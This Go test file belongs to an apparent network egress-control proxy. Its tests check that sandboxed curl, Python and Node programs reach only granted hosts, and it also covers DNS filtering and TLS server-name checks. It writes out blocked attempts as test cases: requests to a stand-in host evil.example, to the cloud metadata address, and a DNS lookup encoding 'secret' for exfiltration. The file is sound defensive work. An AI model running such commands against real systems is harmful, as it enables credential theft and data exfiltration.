package egress

import (
	"bufio"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/binary"
	"encoding/pem"
	"fmt"
	"io"
	"log"
	"math/big"
	"net"
	"net/http/httptest"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/dns/dnsmessage"
)

// secure is a TLS server for names, and a file with the CA that signed it.
func secure(t testing.TB, name string, names ...string) (addr, caFile string) {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	tmpl := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "test"}, DNSNames: names, IsCA: true, BasicConstraintsValid: true,
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour)}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, key.Public(), key)
	if err != nil {
		t.Fatal(err)
	}
	s := httptest.NewUnstartedServer(echo(name))
	s.TLS = &tls.Config{Certificates: []tls.Certificate{{Certificate: [][]byte{der}, PrivateKey: key}}}
	s.Config.ErrorLog = log.New(io.Discard, "", 0)
	s.StartTLS()
	t.Cleanup(s.Close)
	caFile = filepath.Join(t.TempDir(), "ca.pem")
	if err := os.WriteFile(caFile, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der}), 0o644); err != nil {
		t.Fatal(err)
	}
	return addrOf(s), caFile
}

// raw is a TCP server that greets and repeats.
func raw(t testing.TB, greeting string) string {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			go func() {
				defer c.Close()
				io.WriteString(c, greeting)
				io.Copy(c, c)
			}()
		}
	}()
	return l.Addr().String()
}

func TestS10_ProgramsReachWhatIsGrantedAndNothingElse(t *testing.T) {
	r := newRoom(t)
	w := newWorld(t, Config{}, "api.example.com:80", "api.example.com:443", "db.example.com:5432", "10.1.2.3:5432")
	secureAddr, ca := secure(t, "api", "api.example.com")
	w.at("api.example.com:80", addrOf(upstream(t, "api")))
	w.at("api.example.com:443", secureAddr)
	w.at("db.example.com:5432", raw(t, "hello from db\n"))
	w.at("10.1.2.3:5432", raw(t, "hello from address\n"))
	for _, h := range []string{"evil.example:80", "evil.example:443", "evil.example:5432", "1.1.1.1:80", "1.1.1.1:443", "169.254.169.254:80"} {
		w.at(h, raw(t, "evil"))
	}
	w.fill(r, 5432)

	curl := func(args ...string) []string {
		return append([]string{"curl", "-sS", "--max-time", "20", "--cacert", ca}, args...)
	}
	python := func(code string) []string { return []string{"python3", "-c", code} }
	node := func(code string) []string { return []string{"node", "-e", code} }
	for _, c := range []struct {
		name string
		argv []string
		want string // in what it prints; empty where it must fail
	}{
		{"curl http", curl("http://api.example.com/a"), "api: GET api.example.com /a"},
		{"curl https", curl("https://api.example.com/b"), "api: GET api.example.com /b"},
		{"curl https over IPv6", curl("-6", "https://api.example.com/6"), "api: GET api.example.com /6"},
		{"curl posts", curl("-d", "data", "-H", "Expect: 100-continue", "http://api.example.com/c"), "data"},
		{"curl unknown name", curl("http://evil.example/"), ""},
		{"curl unknown name at a known address", curl("--resolve", "evil.example:80:198.18.0.1", "-f", "http://evil.example/"), ""},
		{"curl unknown TLS name at a known address", curl("--resolve", "evil.example:443:198.18.0.1", "-k", "https://evil.example/"), ""},
		{"curl metadata", curl("-f", "http://169.254.169.254/latest/meta-data/"), ""},
		{"curl TLS to an address", curl("-k", "https://1.1.1.1/"), ""},
		{"curl host beside the address", curl("-f", "-H", "Host: evil.example", "http://api.example.com/"), ""},
		{"curl as if to a proxy", curl("-f", "-x", "http://api.example.com:80", "http://evil.example/"), ""},
		{"curl http2 without TLS", curl("-f", "--http2-prior-knowledge", "http://api.example.com/"), ""},
		{"python http", python(`import urllib.request as u; print(u.urlopen("http://api.example.com/p", timeout=20).read())`), "api: GET api.example.com /p"},
		{"python https", python(`import ssl, sys, urllib.request as u; print(u.urlopen("https://api.example.com/q", timeout=20, context=ssl.create_default_context(cafile=` + fmt.Sprintf("%q", ca) + `)).read())`), "api: GET api.example.com /q"},
		{"python database", python(`import socket; s=socket.create_connection(("db.example.com",5432),20); print(s.recv(99)); s.sendall(b"sql"); print(s.recv(99))`), "sql"},
		{"python granted address", python(`import socket; s=socket.create_connection(("10.1.2.3",5432),20); print(s.recv(99))`), "hello from address"},
		{"python neighbour of that address", python(`import socket; s=socket.create_connection(("10.1.2.4",5432),20); print(s.recv(99)); assert s.recv(99)`), ""},
		{"python unknown name", python(`import socket; socket.create_connection(("evil.example",5432),20)`), ""},
		{"python other port", python(`import socket; socket.create_connection(("db.example.com",5433),20)`), ""},
		{"python names carry nothing out", python(`import socket; socket.getaddrinfo("c2VjcmV0.evil.example",80)`), ""},
		{"python reverse name", python(`import socket; a=socket.gethostbyname("api.example.com"); print(socket.gethostbyaddr(a)[0])`), "api.example.com"},
		{"python udp elsewhere", python(`import socket; s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(20); s.connect(("1.1.1.1",443)); s.send(b"quic"); s.recv(99)`), ""},
		{"node http", node(`fetch("http://api.example.com/n").then(r=>r.text()).then(console.log)`), "api: GET api.example.com /n"},
		{"node https", node(`fetch("https://api.example.com/o").then(r=>r.text()).then(console.log)`), "api: GET api.example.com /o"},
		{"node unknown name", node(`fetch("http://evil.example/").then(r=>r.text())`), ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			need(t, c.argv[0])
			if strings.Contains(c.name, "IPv6") && !r.v6 {
				t.Skip("no IPv6 in this kernel")
			}
			out, err := r.try([]string{"NODE_EXTRA_CA_CERTS=" + ca}, c.argv[0], c.argv[1:]...)
			if c.want == "" && err == nil {
				t.Errorf("succeeded: %s", out)
			}
			if c.want != "" && (err != nil || !strings.Contains(out, c.want)) {
				t.Errorf("%v: %s", err, out)
			}
			if strings.Contains(out, "evil\n") || strings.HasSuffix(out, "evil") {
				t.Errorf("reached evil: %s", out)
			}
		})
	}
	for _, h := range w.reached() {
		if !strings.Contains("api.example.com:80 api.example.com:443 db.example.com:5432 10.1.2.3:5432", h) {
			t.Errorf("dialled %s", h)
		}
	}
	w.uses.want(t, KindDNS, "api.example.com", true)
	w.uses.want(t, KindTLS, "api.example.com:443", true)
	w.uses.want(t, KindTCP, "db.example.com:5432", true)
	w.uses.want(t, KindDNS, "evil.example", false)
	w.uses.want(t, KindHTTP, "169.254.169.254:80", false)
	w.uses.want(t, KindTCP, "10.1.2.4:5432", false)
}

func TestS10_DNSAnswersOnlyWhatMayBeReached(t *testing.T) {
	r := newRoom(t)
	w := newWorld(t, Config{}, "api.example.com:443", "*.wild.example:443", "dynamodb:GetItem table/orders")
	w.fill(r)
	ask := func(t *testing.T, network, server, name string, typ dnsmessage.Type) (dnsmessage.Message, error) {
		q := dnsmessage.Message{Header: dnsmessage.Header{ID: 7, RecursionDesired: true},
			Questions: []dnsmessage.Question{{Name: dnsmessage.MustNewName(name), Type: typ, Class: dnsmessage.ClassINET}}}
		var opt dnsmessage.ResourceHeader
		opt.SetEDNS0(4096, 0, false)
		q.Additionals = []dnsmessage.Resource{{Header: opt, Body: &dnsmessage.OPTResource{}}}
		msg, err := q.Pack()
		if err != nil {
			t.Fatal(err)
		}
		// A connected UDP socket takes answers of the asked address only.
		c, err := r.dial(context.Background(), network, server)
		if err != nil {
			t.Fatal(err)
		}
		defer c.Close()
		c.SetDeadline(time.Now().Add(20 * time.Second))
		buf := make([]byte, 2048)
		var n int
		if network == "tcp" {
			c.Write(append(binary.BigEndian.AppendUint16(nil, uint16(len(msg))), msg...))
			if _, err := io.ReadFull(c, buf[:2]); err != nil {
				t.Fatal(err)
			}
			n, err = io.ReadFull(c, buf[:binary.BigEndian.Uint16(buf)])
		} else {
			c.Write(msg)
			n, err = c.Read(buf)
		}
		if err != nil {
			t.Fatal(err)
		}
		var m dnsmessage.Message
		return m, m.Unpack(buf[:n])
	}
	for _, c := range []struct {
		name    string
		typ     dnsmessage.Type
		code    dnsmessage.RCode
		answers int
	}{
		{"api.example.com.", dnsmessage.TypeA, 0, 1},
		{"aPi.ExAmple.cOm.", dnsmessage.TypeA, 0, 1},
		{"api.example.com.", dnsmessage.TypeAAAA, 0, 1},
		{"a.wild.example.", dnsmessage.TypeA, 0, 1},
		{"dynamodb.eu-west-1.amazonaws.com.", dnsmessage.TypeA, 0, 1},
		{"api.example.com.", dnsmessage.Type(65), 0, 0}, // HTTPS would offer QUIC and ECH
		{"api.example.com.", dnsmessage.TypeTXT, 0, 0},
		{"api.example.com.", dnsmessage.TypeMX, 0, 0},
		{"evil.example.", dnsmessage.TypeA, 3, 0},
		{"evil.example.", dnsmessage.TypeTXT, 3, 0},
		{"a.b.wild.example.", dnsmessage.TypeA, 3, 0},
		{"wild.example.", dnsmessage.TypeA, 3, 0},
		{"s3.amazonaws.com.", dnsmessage.TypeA, 3, 0},
		{"secret.api.example.com.", dnsmessage.TypeA, 3, 0},
		{"4.4.8.8.in-addr.arpa.", dnsmessage.TypePTR, 3, 0},
		{"1.0.18.198.in-addr.arpa.", dnsmessage.TypePTR, 0, 1},
		{"1.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.4.7.2.6.5.7.f.6.4.6.5.6.2.7.d.f.ip6.arpa.", dnsmessage.TypePTR, 0, 1},
	} {
		for _, way := range []struct{ network, server string }{{"udp", "8.8.8.8:53"}, {"tcp", "10.0.0.2:53"}, {"udp", "[2001:4860:4860::8888]:53"}} {
			if way.server[0] == '[' && !r.v6 {
				continue
			}
			m, err := ask(t, way.network, way.server, c.name, c.typ)
			if err != nil {
				t.Fatalf("%s: %v", c.name, err)
			}
			if m.ID != 7 || m.RCode != c.code || len(m.Answers) != c.answers || len(m.Questions) != 1 || m.Questions[0].Name.String() != c.name || len(m.Additionals) != 1 {
				t.Errorf("%s %v by %s: %+v", c.name, c.typ, way.network, m)
			}
			for _, a := range m.Answers {
				if b, ok := a.Body.(*dnsmessage.AResource); ok && !pool4.Contains(netip.AddrFrom4(b.A)) {
					t.Errorf("%s at %v", c.name, b.A)
				}
			}
		}
	}
}

func TestS10_TLSGoesByServerName(t *testing.T) {
	w := newWorld(t, Config{}, "api.example.com:443", "127.0.0.1:443")
	addr, caFile := secure(t, "api", "api.example.com")
	w.at("api.example.com:443", addr)
	w.at("127.0.0.1:443", addr)
	pem, err := os.ReadFile(caFile)
	if err != nil {
		t.Fatal(err)
	}
	roots := x509.NewCertPool()
	roots.AppendCertsFromPEM(pem)
	l := w.serve(443)
	try := func(cfg *tls.Config) error {
		c, err := tls.Dial("tcp", l, cfg)
		if err != nil {
			return err
		}
		defer c.Close()
		fmt.Fprintf(c, "GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
		_, err = bufio.NewReader(c).ReadString('\n')
		return err
	}
	if err := try(&tls.Config{ServerName: "api.example.com", RootCAs: roots}); err != nil {
		t.Errorf("granted name: %v", err)
	}
	if err := try(&tls.Config{ServerName: "API.example.com", RootCAs: roots}); err != nil {
		t.Errorf("granted name in capitals: %v", err)
	}
	if err := try(&tls.Config{ServerName: "evil.example", InsecureSkipVerify: true}); err == nil || !strings.Contains(err.Error(), "access denied") {
		t.Errorf("other name: %v", err)
	}
	// Without a name it is the address that counts, which here is granted.
	if err := try(&tls.Config{InsecureSkipVerify: true}); err != nil {
		t.Errorf("no name, granted address: %v", err)
	}
	w.uses.want(t, KindTLS, "127.0.0.1:443", true)
	ech := echConfig(t, "api.example.com")
	if err := try(&tls.Config{ServerName: "evil.example", RootCAs: roots, MinVersion: tls.VersionTLS13, EncryptedClientHelloConfigList: ech}); err == nil {
		t.Error("encrypted ClientHello went through")
	}
	if got := say(t, l, "GET / HTTP/1.1\r\nHost: api.example.com\r\n\r\n"); !strings.HasPrefix(got, "\x15\x03\x03") {
		t.Errorf("plain HTTP on 443: %q", got)
	}
	if u := w.uses.want(t, KindTLS, "api.example.com:443", false); u.Err != errECH.Error() {
		t.Errorf("%+v", u)
	}
}

// echConfig is an ECHConfigList (RFC 9849 4) with a key nobody holds.
func echConfig(t *testing.T, public string) []byte {
	t.Helper()
	key := make([]byte, 32)
	rand.Read(key)
	key[0] |= 8
	inner := []byte{1, 0, 0x20, 0, 32}
	inner = append(inner, key...)
	inner = append(inner, 0, 4, 0, 1, 0, 1, 0, byte(len(public)))
	inner = append(append(inner, public...), 0, 0)
	cfg := append([]byte{0xfe, 0x0d, 0, byte(len(inner))}, inner...)
	return append([]byte{0, byte(len(cfg))}, cfg...)
}

func TestNoNameMeansTheAddressOfItsName(t *testing.T) {
	w := newWorld(t, Config{}, "api.example.com:443")
	w.at("api.example.com:443", raw(t, ""))
	v4, v6 := w.proxy.names.addresses("api.example.com")
	for _, addr := range []netip.Addr{v4, v6} {
		a := Attempt{Address: netip.AddrPortFrom(addr, 443)}
		if err := w.proxy.handedOut(&a); err != nil || a.Host != "api.example.com" {
			t.Errorf("%v: %q %v", addr, a.Host, err)
		}
	}
	a := Attempt{Address: netip.MustParseAddrPort("198.18.200.1:443")}
	if err := w.proxy.handedOut(&a); err != errForgotten {
		t.Errorf("address nobody has: %v", err)
	}
	a = Attempt{Address: netip.MustParseAddrPort("10.1.1.1:443")}
	if err := w.proxy.handedOut(&a); err != nil || a.Host != "10.1.1.1" {
		t.Errorf("%q %v", a.Host, err)
	}
}

func TestNamesForgetTheLeastUsed(t *testing.T) {
	n := newNames(3)
	first, _ := n.addresses("a")
	n.addresses("b")
	n.addresses("c")
	if again, _ := n.addresses("a"); again != first {
		t.Error("a name's address changed")
	}
	n.addresses("d") // b goes
	for name, want := range map[string]bool{"a": true, "c": true, "d": true, "b": false} {
		found := false
		for num := uint32(1); num < 10; num++ {
			v4, _ := pooled(num)
			got, ok := n.name(v4)
			found = found || ok && got == name
		}
		if found != want {
			t.Errorf("%s is there: %v", name, found)
		}
	}
}
